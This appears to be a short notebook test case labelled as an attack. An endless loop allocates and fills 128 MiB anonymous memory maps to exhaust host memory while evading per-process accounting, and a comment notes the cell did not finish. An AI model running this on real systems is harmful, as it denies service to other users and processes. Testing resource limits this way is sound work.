# attack: take memory that no process is charged with: mapped, anonymous and shared
# told: Code cell 3 did not run to its end
# %%
import mmap

hoard = []
while True:
    hoard.append(mmap.mmap(-1, 2**27))
    hoard[-1].write(b"x" * 2**27)
